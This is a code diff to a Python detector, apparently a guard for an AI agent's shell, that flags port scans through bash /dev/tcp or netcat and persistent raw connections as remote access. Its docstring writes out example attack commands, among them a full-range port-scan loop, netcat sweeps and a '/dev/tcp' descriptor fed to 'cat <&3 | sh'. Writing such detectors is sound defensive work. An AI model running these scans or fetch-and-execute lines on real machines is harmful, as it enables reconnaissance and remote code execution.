@@ -1,5 +1,5 @@
 """Tactic family ``network scanning`` by hand: ports of another machine probed through bash's ``/dev/tcp``
-or netcat.
+or netcat, or a connection to one opened by the shell and kept.
 
 ``for p in {1..65535}; do (echo > /dev/tcp/10.0.0.5/$p) 2>/dev/null && echo "$p open"; done`` is a port
 scanner with no scanner installed (the attacker's way on a host without nmap). The parser gives such a
@@ -10,6 +10,12 @@ a health check) and this machine's own ports stay ordinary.
 
 Netcat is the same scanner with its own syntax: ``nc -zv 10.0.0.5 20-80`` or ``echo | nc -nvw2 HOST 1-1024``
 tries every port of the range (``nc -u -z`` the UDP ones); ``nc -z db 5432`` is a health check.
+
+``exec 3<>/dev/tcp/203.0.113.9/443`` as a whole call opens a raw connection that stays open in the
+agent's shell for later calls to feed, or to be fed from (a loader's ``cat <&3 | sh`` one call later, out
+of this one's sight): asked as :data:`~agentbus.guards.verdict.REMOTE_ACCESS`. Opened and used in the same
+call (``… >&3; head -n1 <&3``), in a subshell or with other commands (``(exec 3<>…) && echo up``), it
+is a probe or a transfer, judged by what uses it (:mod:`..danger`).
 """
 
 from __future__ import annotations
@@ -18,10 +24,11 @@ from ...lazy_regex import lazy_compile
 from ..findings import finding as _verdict
 from ..findings import static_args as _values
 from ..hosts import is_this_machine
-from ..programs import Invocation
-from ..verdict import NETWORK_SCAN, Verdict
+from ..parse import Script
+from ..programs import Invocation, walk
+from ..verdict import NETWORK_SCAN, REMOTE_ACCESS, Verdict
 
-__all__ = ["judge"]
+__all__ = ["judge", "kept_connection"]
 
 _PROBE = lazy_compile(r"^/dev/(?:tcp|udp)/([^/]+)/(.+)$")
 _PORT_RANGE = lazy_compile(r"\{\d+\.\.\d+\}")
@@ -87,3 +94,23 @@ def _netcat_sweep(invocation: Invocation) -> Verdict | None:
         return None
     why = f"{invocation.name} tries many ports of {host}: a port scan of another machine"
     return _verdict(NETWORK_SCAN, invocation, why)
+
+
+def kept_connection(script: Script) -> Verdict | None:
+    """A whole call that only opens a descriptor to another machine (``exec 3<>/dev/tcp/h/p``), or None.
+    Judged on the call itself, not on nested code: ``bash -c 'exec 3<>…'`` closes it when bash exits."""
+    if len(script.pipelines) != 1 or len(script.pipelines[0]) != 1:
+        return None
+    command = script.pipelines[0][0]
+    if command.words != ("exec",):
+        return None
+    for redirect in command.redirects:
+        target = command.static(redirect.target) or ""
+        probe = _PROBE.match(target)
+        if probe is None or redirect.fd in ("", "0", "1", "2") or is_this_machine(probe.group(1)):
+            continue
+        host, fd = probe.group(1), redirect.fd
+        why = f"opens a connection to {host} kept in the shell (descriptor {fd}) for later calls"
+        stages = next(iter(walk(script)), [])
+        return _verdict(REMOTE_ACCESS, stages[0], why) if stages else None
+    return None
